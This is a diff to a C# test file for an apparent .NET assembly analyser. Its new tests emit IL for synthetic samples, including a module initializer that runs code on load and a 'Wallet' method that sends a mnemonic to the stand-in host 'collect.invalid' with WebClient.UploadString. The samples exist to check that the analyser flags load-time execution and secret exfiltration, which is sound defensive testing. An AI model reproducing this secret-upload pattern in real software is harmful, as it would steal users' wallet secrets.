@@ -71,14 +71,66 @@ public sealed class DotNetReaderTests
         const MethodAttributes Virtual = MethodAttributes.Public | MethodAttributes.Virtual | MethodAttributes.HideBySig | MethodAttributes.NewSlot;
         Assemblies.Method(type, "MoveNext", Run, Virtual);
         ConstructorBuilder create = type.DefineDefaultConstructor(MethodAttributes.Public);
+        MethodBuilder initializer = sample.Module.DefineGlobalMethod(".cctor", MethodAttributes.Static | MethodAttributes.SpecialName | MethodAttributes.RTSpecialName, typeof(void), []);
+        ILGenerator il = initializer.GetILGenerator();
+        il.Emit(OpCodes.Newobj, create);
+        il.Emit(OpCodes.Pop);
+        il.Emit(OpCodes.Ret);
+        sample.Module.CreateGlobalFunctions();
+        FileFacts facts = Read(sample.Build(type));
+        facts.Calls.ShouldContain(("<Module>..cctor", "new Runner"));
+        facts.Calls.ShouldContain(("new Runner", "Runner.MoveNext"));
+        facts.Names().ShouldNotContain("dotnet.load-reaches");
+    }
+
+    [Fact]
+    public void What_an_object_could_be_asked_for_does_not_run_because_a_static_constructor_makes_one()
+    {
+        var sample = new Assemblies();
+        TypeBuilder type = sample.Type("Transport");
+        Assemblies.Method(type, "Process", Run, MethodAttributes.Public | MethodAttributes.Virtual | MethodAttributes.HideBySig | MethodAttributes.NewSlot);
+        ConstructorBuilder create = type.DefineDefaultConstructor(MethodAttributes.Public);
         TypeBuilder other = sample.Type("Other");
         ILGenerator il = other.DefineTypeInitializer().GetILGenerator();
         il.Emit(OpCodes.Newobj, create);
         il.Emit(OpCodes.Pop);
         il.Emit(OpCodes.Ret);
-        FileFacts facts = Read(sample.Build(type, other));
-        facts.Calls.ShouldContain(("Other..cctor", "new Runner"));
-        facts.Calls.ShouldContain(("new Runner", "Runner.MoveNext"));
+        Read(sample.Build(type, other)).Calls.ShouldNotContain(("new Transport", "Transport.Process"));
+    }
+
+    [Fact]
+    public void What_a_module_initializer_leads_to_for_certain_is_said()
+    {
+        var sample = new Assemblies();
+        TypeBuilder type = sample.Type("Tool");
+        MethodBuilder go = Assemblies.Method(type, "Go", Run);
+        sample.Module.DefineGlobalMethod(".cctor", MethodAttributes.Static | MethodAttributes.SpecialName | MethodAttributes.RTSpecialName, typeof(void), []).GetILGenerator().Call(go);
+        sample.Module.CreateGlobalFunctions();
+        Fact fact = Read(sample.Build(type)).Facts.Single(fact => fact.Name == "dotnet.load-reaches");
+        (fact.Value, fact.Unit).ShouldBe(("execute.process", ""));
+        fact.Evidence.ShouldStartWith("<Module>..cctor leads to Tool.Go calls");
+    }
+
+    [Fact]
+    public void A_secret_that_is_handed_on_flows_into_what_the_other_method_sends()
+    {
+        var sample = new Assemblies();
+        TypeBuilder type = sample.Type("Wallet");
+        MethodBuilder shuffle = type.DefineMethod("Shuffle", MethodAttributes.Public | MethodAttributes.Static, typeof(void), [typeof(string)]);
+        shuffle.DefineParameter(1, ParameterAttributes.None, "value");
+        ILGenerator il = shuffle.GetILGenerator();
+        il.Emit(OpCodes.Newobj, typeof(System.Net.WebClient).GetConstructor([])!);
+        il.Emit(OpCodes.Ldstr, "https://collect.invalid/");
+        il.Emit(OpCodes.Ldarg_0);
+        il.Emit(OpCodes.Callvirt, typeof(System.Net.WebClient).GetMethod("UploadString", [typeof(string), typeof(string)])!);
+        il.Emit(OpCodes.Pop);
+        il.Emit(OpCodes.Ret);
+        MethodBuilder open = type.DefineMethod("Open", MethodAttributes.Public | MethodAttributes.Static, typeof(void), [typeof(string)]);
+        open.DefineParameter(1, ParameterAttributes.None, "mnemonic");
+        il = open.GetILGenerator();
+        il.Emit(OpCodes.Ldarg_0);
+        il.Call(shuffle);
+        Read(sample.Build(type)).Facts.Single(fact => fact.Name == "network.send").From.ShouldBe(["read.parameter.secret"]);
     }
 
     [Fact]
